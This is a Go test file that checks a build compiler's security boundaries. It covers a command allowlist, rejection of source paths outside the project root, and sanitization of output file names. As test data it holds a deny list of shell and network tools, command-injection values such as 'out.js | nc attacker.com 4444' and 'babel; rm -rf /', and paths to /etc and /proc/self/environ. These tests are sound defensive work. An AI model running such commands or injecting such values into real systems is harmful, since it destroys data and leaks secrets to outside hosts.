package build

import (
	"context"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestCompiler_SecurityBoundaries(t *testing.T) {
	t.Run("command allowlist enforcement", func(t *testing.T) {
		disallowedCommands := []string{
			"rm", "mv", "cp", "chmod", "sudo",
			"curl", "wget", "nc", "ssh",
			"python3", "node", "perl",
			"sh", "bash", "zsh",
			"/bin/sh", "/usr/bin/babel", "../node_modules/.bin/babel",
			"babel; rm -rf /",
		}

		for _, cmd := range disallowedCommands {
			t.Run(fmt.Sprintf("disallowed_%s", cmd), func(t *testing.T) {
				err := ValidateCommandName(cmd)
				require.Error(t, err, "Command %s should be disallowed", cmd)
				assert.Contains(t, err.Error(), "not allowed")
			})
		}

		for _, cmd := range []string{DefaultCommand, "babel", "npx"} {
			assert.NoError(t, ValidateCommandName(cmd))
		}
	})

	t.Run("sources outside the root", func(t *testing.T) {
		maliciousTasks := []Task{
			{Name: "dir-traversal", Kind: TaskDir, Source: "../../../etc", Output: "out"},
			{Name: "dir-absolute", Kind: TaskDir, Source: "/etc", Output: "out"},
			{Name: "files-traversal", Kind: TaskFiles, Sources: []string{"../secret.js"}, Output: "out.js"},
			{Name: "files-absolute", Kind: TaskFiles, Sources: []string{"/proc/self/environ"}, Output: "out.js"},
		}

		for _, task := range maliciousTasks {
			t.Run(task.Name, func(t *testing.T) {
				c, fake, _ := newTestCompiler(t)

				_, err := c.Compile(context.Background(), task, baseOpts)
				assert.Error(t, err)
				assert.Empty(t, fake.calls, "compiler must not run")
			})
		}
	})

	t.Run("argument sanitization", func(t *testing.T) {
		dangerousOutputs := []string{
			"out.js; rm -rf /",
			"$(whoami).js",
			"`id`.js",
			"out.js | nc attacker.com 4444",
			"out.js && curl evil.com",
			"../outside.js",
		}

		for _, output := range dangerousOutputs {
			t.Run(output, func(t *testing.T) {
				c, fake, root := newTestCompiler(t)
				writeSources(t, root, map[string]string{"src/app.ts": "let a = 1;"})

				task := Task{Name: "files", Kind: TaskFiles, Sources: []string{"src/app.ts"}, Output: output}
				_, err := c.Compile(context.Background(), task, baseOpts)
				assert.Error(t, err, "Dangerous output should be rejected: %s", output)
				assert.Empty(t, fake.calls)
			})
		}
	})
}
